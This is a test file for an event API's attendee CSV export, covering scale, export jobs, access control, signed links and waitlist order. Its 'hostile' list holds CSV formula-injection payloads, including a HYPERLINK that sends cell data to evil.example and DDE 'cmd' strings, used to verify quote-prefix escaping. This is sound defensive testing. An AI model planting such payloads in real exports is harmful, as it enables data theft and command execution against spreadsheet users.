/**
 * Attendee exports at size and with hostile content. 25,000 RSVPs are too many to make
 * through HTTP in a test, so they are written straight into DynamoDB Local, shaped
 * exactly as the store's saveRsvp writes them, for an event created through the API.
 * Everything asserted is read back through HTTP: the export and the file it links to.
 */
import type { Rsvp } from '../../functions/core/domain/events.js';
import { call, callBytes, signIn } from '../support/http.js';
import { buildAssociation, expectProblem, expectStatus, type AssociationFixture } from '../support/fixtures.js';
import { allItems, batchWrite, codeItem, createEvent, csvObjects, download, exportThroughJob, makeRsvp, parseCsvStrict, rsvp, rsvpItem, subjectStarts, urlAfter, waitForMail, waitingItem, type EventView } from '../support/events.js';

/** Names (and companies) a spreadsheet must show as text, never run. */
const hostile = [
  '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  '-1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'Ada "The Countess" Lovelace',
  'Lovelace, Ada, Countess of',
  'Line one\nLine two',
  'Carriage\r\nReturn',
  'Emoji 🎉👩‍💻 Ünïcødé 日本語',
  '\tLeading tab',
  '=1+2',
  ' =spaced formula',
];
/** What the export must show: formula-looking text prefixed with a quote (OWASP). */
const shown = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

const N = 25_000;

describe('attendee export of 25,000 RSVPs', () => {
  let fx: AssociationFixture;
  let ev: EventView;
  const run = Math.random().toString(16).slice(2, 18).padEnd(16, '0');
  const expected = new Map<string, Rsvp>();

  beforeAll(async () => {
    fx = await buildAssociation();
    ev = await createEvent(fx.organizer, fx.associationId, {
      title: 'Big conference',
      capacity: null,
      questions: [{ id: 'diet', label: 'Dietary needs', type: 'text', required: false }],
    });
    const rsvps: Rsvp[] = [];
    for (let i = 0; i < N; i++) {
      const h = i < hostile.length ? hostile[i]! : undefined;
      const r = makeRsvp(ev, run, i, {
        ...(h ? { name: h, company: h, answers: { diet: h } } : {}),
        ...(i % 7 === 0 && !h ? { company: `Company ${i}`, jobTitle: 'Engineer' } : {}),
        ...(i % 11 === 0 ? { guests: 1 } : {}),
      });
      rsvps.push(r);
      expected.set(r.email, r);
    }
    const started = Date.now();
    await batchWrite(rsvps.map((r) => rsvpItem(ev, r)));
    console.log(`wrote ${N} RSVPs into DynamoDB Local in ${Date.now() - started} ms`);
  }, 300_000);

  let fileUrl = '';

  it('answers 202 with a status URL; the job makes the file, which parses strictly and lists every attendee exactly once', async () => {
    const started = Date.now();
    const job = await exportThroughJob(`/events/${ev.eventId}/attendees/export?format=url`, fx.organizer.token);
    expect(job.accepted).toEqual({ exportId: expect.any(String), state: 'pending', statusUrl: expect.stringContaining(`/associations/${fx.associationId}/exports/`) });
    expect(job.status).toMatchObject({ exportId: job.accepted.exportId, state: 'ready', rows: N, url: expect.any(String), expiresAt: expect.any(String) });
    fileUrl = job.status.url;
    const file = job.file;
    console.log(`export of ${N} rows through the job: ${Date.now() - started} ms, ${file.bytes.length} bytes`);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toMatch(/^text\/csv/);
    const csv = parseCsvStrict(file.bytes);
    expect(csv.header).toEqual([
      'name', 'email', 'company', 'jobTitle', 'status', 'waitlistPosition', 'rsvpAt', 'guests', 'checkedIn', 'checkedInAt', 'membershipStatus', 'membershipPlan', 'Dietary needs',
    ]);
    expect(csv.rows).toHaveLength(N);
    const rows = csvObjects(csv);
    const seen = new Map<string, number>();
    for (const r of rows) seen.set(r.email!, (seen.get(r.email!) ?? 0) + 1);
    expect(seen.size).toBe(N);
    expect([...seen.values()].every((n) => n === 1)).toBe(true);
    expect([...seen.keys()].sort()).toEqual([...expected.keys()].sort());

    const mismatches: unknown[] = [];
    for (const row of rows) {
      const r = expected.get(row.email!)!;
      const want = {
        name: shown(r.name),
        company: r.company ? shown(r.company) : '',
        jobTitle: r.jobTitle ?? '',
        status: 'going',
        waitlistPosition: '',
        rsvpAt: r.rsvpAt,
        guests: String(r.guests),
        checkedIn: 'no',
        checkedInAt: '',
        membershipStatus: 'non-member',
        membershipPlan: '',
        'Dietary needs': r.answers.diet ? shown(r.answers.diet as string) : '',
      };
      const got = Object.fromEntries(Object.keys(want).map((k) => [k, row[k]]));
      if (JSON.stringify(got) !== JSON.stringify(want)) mismatches.push({ got, want });
    }
    expect(mismatches.slice(0, 5)).toEqual([]);
  }, 120_000);

  it('the organizer is mailed a link to the same file; the export is in the log with its row count', async () => {
    const [mail] = await waitForMail(fx.organizer.email, { filter: subjectStarts('Your export is ready'), timeoutMs: 30_000 });
    const link = urlAfter(mail!, 'Download the CSV file: ');
    const fromMail = await download(link);
    expect(fromMail.status).toBe(200);
    expect(fromMail.bytes.equals((await download(fileUrl)).bytes)).toBe(true);
    expect(mail!.body.text).toContain('25,000 rows');
    const log = await call('GET', `/associations/${fx.associationId}/exports`, { token: fx.owner.token });
    expect(log.body.items).toContainEqual(expect.objectContaining({ what: 'attendees', subjectId: ev.eventId, rows: N, format: 'url', actorId: fx.organizer.userId }));
  }, 60_000);

  it('the status is the asker\'s or an admin\'s: another organizer gets 404, a member 403; a malformed id is a 400 naming it', async () => {
    const res = await call('GET', `/events/${ev.eventId}/attendees/export?preset=door`, { token: fx.organizer.token });
    expect(res.status).toBe(202);
    const path = new URL(res.body.statusUrl).pathname;
    const other = await signIn('organizer2');
    expectStatus(await call('POST', `/associations/${fx.associationId}/members`, { token: other.token, body: { planId: fx.freePlanId } }), 201, 'join');
    expectStatus(await call('PATCH', `/associations/${fx.associationId}/members/${other.userId}`, { token: fx.owner.token, body: { role: 'organizer' } }), 200, 'make organizer');
    expectProblem(await call('GET', path, { token: other.token }), 404);
    expectProblem(await call('GET', path, { token: fx.member.token }), 403);
    expect((await call('GET', path, { token: fx.admin.token })).status).toBe(200);
    const bad = await call('GET', `/associations/${fx.associationId}/exports/not..an..id`, { token: fx.organizer.token });
    expectProblem(bad, 400);
    expect(bad.body.errors.map((e: { path: string }) => e.path)).toContain('exportId');
  }, 60_000);

  it('bad export queries are 400s naming the field', async () => {
    const preset = await call('GET', `/events/${ev.eventId}/attendees/export?preset=everything`, { token: fx.organizer.token });
    expectProblem(preset, 400);
    expect(preset.body.errors.map((e: { path: string }) => e.path)).toContain('preset');
    const clash = await call('GET', `/events/${ev.eventId}/attendees/export?preset=waitlist&status=going`, { token: fx.organizer.token });
    expectProblem(clash, 400);
    expect(clash.body.errors.map((e: { path: string }) => e.path)).toContain('status');
  });

  it('hostile names round-trip through a strict parser, formula-looking cells prefixed by a quote', async () => {
    const rows = csvObjects(parseCsvStrict((await download(fileUrl)).bytes));
    const byEmail = new Map(rows.map((r) => [r.email!, r]));
    for (const [i, h] of hostile.entries()) {
      const row = byEmail.get(`attendee.${i}.${run}@example.test`)!;
      expect({ i, name: row.name, company: row.company, diet: row['Dietary needs'] }).toEqual({ i, name: shown(h), company: shown(h), diet: shown(h) });
    }
    // No cell anywhere starts like a formula.
    const formula = rows.flatMap((r) => Object.entries(r)).filter(([, v]) => /^[=+\-@\t\r]/.test(v));
    expect(formula).toEqual([]);
  }, 120_000);

  it('preset=door has only name, company, guests: no emails, no answers', async () => {
    const { status, file } = await exportThroughJob(`/events/${ev.eventId}/attendees/export?format=url&preset=door`, fx.organizer.token);
    expect(status.rows).toBe(N);
    const csv = parseCsvStrict(file.bytes);
    expect(csv.header).toEqual(['name', 'company', 'guests']);
    expect(csv.rows).toHaveLength(N);
    expect(file.bytes.toString('utf8')).not.toContain('@example.test');
    const names = new Set(csv.rows.map((r) => r[0]));
    expect(names.size).toBe(N);
    expect(names.has(shown(hostile[0]!))).toBe(true);
  }, 120_000);

  it('without format=url, a list this large goes to the job as well', async () => {
    const res = await call('GET', `/events/${ev.eventId}/attendees/export`, { token: fx.organizer.token });
    expect(res.status).toBe(202);
    expect(res.headers.get('location')).toBe(res.body.statusUrl);
  }, 120_000);

  it('the file link is signed: a changed token or path is refused', async () => {
    const url = new URL(fileUrl);
    const token = url.searchParams.get('token')!;
    url.searchParams.set('token', `${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`);
    expectProblem(await call('GET', `${url.pathname}${url.search}`), 403);
    const other = new URL(fileUrl);
    other.pathname = other.pathname.replace(/[^/]+$/, 'other.csv');
    expectProblem(await call('GET', `${other.pathname}${other.search}`), 403);
  });
});

describe('waitlist export order', () => {
  it('status=waitlisted exports a small waitlist in waitlist order', async () => {
    const fx = await buildAssociation();
    const ev = await createEvent(fx.organizer, fx.associationId, { capacity: 1 });
    const people = await Promise.all(Array.from({ length: 6 }, (_, i) => signIn(`wl${i}`, `Waiter ${i}`)));
    for (const p of people) await rsvp(p, ev.eventId);
    const res = await callBytes('GET', `/events/${ev.eventId}/attendees/export?status=waitlisted`, { token: fx.organizer.token });
    expect(res.status).toBe(200);
    const rows = csvObjects(parseCsvStrict(res.bytes));
    expect(rows.map((r) => [r.waitlistPosition, r.email, r.status])).toEqual(people.slice(1).map((p, i) => [String(i + 1), p.email, 'waitlisted']));
  });

  it('preset=waitlist exports a waitlist of 1,200 in waitlist order, across pages, through the job', async () => {
    const fx = await buildAssociation();
    const ev = await createEvent(fx.organizer, fx.associationId, { capacity: 1 });
    const run = Math.random().toString(16).slice(2, 18).padEnd(16, '0');
    const W = 1200;
    // Arrival order is the reverse of user id order, as unrelated as real subs and arrival times.
    const waiting = Array.from({ length: W }, (_, i) =>
      makeRsvp(ev, run, i, { status: 'waitlisted', waitKey: `1#01J${String(W - i).padStart(23, '0')}`, name: `Waiter ${i}`, email: `waiter.${i}.${run}@example.test` }),
    );
    await batchWrite(waiting.flatMap((r) => [rsvpItem(ev, r), waitingItem(ev, r), codeItem(ev, r)]));
    const inOrder = [...waiting].sort((a, b) => (a.waitKey! < b.waitKey! ? -1 : 1));

    // The attendee list agrees on the positions.
    const listed = await allItems(`/events/${ev.eventId}/attendees?status=waitlisted`, fx.organizer.token);
    const listedPos = new Map(listed.map((a) => [a.email, a.waitlistPosition]));
    expect(inOrder.every((r, i) => listedPos.get(r.email) === i + 1)).toBe(true);

    // Past one page, so through the job; preset=waitlist is status=waitlisted with every column.
    const { file } = await exportThroughJob(`/events/${ev.eventId}/attendees/export?preset=waitlist`, fx.organizer.token);
    const rows = csvObjects(parseCsvStrict(file.bytes));
    expect(rows).toHaveLength(W);
    const positions = rows.map((r) => Number(r.waitlistPosition));
    const firstOutOfOrder = positions.findIndex((p, i) => p !== i + 1);
    const around = firstOutOfOrder < 0 ? [] : positions.slice(Math.max(0, firstOutOfOrder - 2), firstOutOfOrder + 2);
    expect({ firstOutOfOrder, around }).toEqual({ firstOutOfOrder: -1, around: [] });
    expect(rows.map((r) => r.email)).toEqual(inOrder.map((r) => r.email));
  }, 120_000);
});

describe('export access', () => {
  it('an organizer of another association cannot export this one (403 problem)', async () => {
    const [fx, foreign] = await Promise.all([buildAssociation(), buildAssociation()]);
    const ev = await createEvent(fx.organizer, fx.associationId);
    expectProblem(await call('GET', `/events/${ev.eventId}/attendees/export`, { token: foreign.organizer.token }), 403);
    expectProblem(await call('GET', `/events/${ev.eventId}/attendees/export?format=xlsx`, { token: fx.organizer.token }), 400);
    expectStatus(await call('GET', `/events/${ev.eventId}/attendees/export?status=all&preset=minimal`, { token: fx.organizer.token }), 200, 'export all');
  });
});
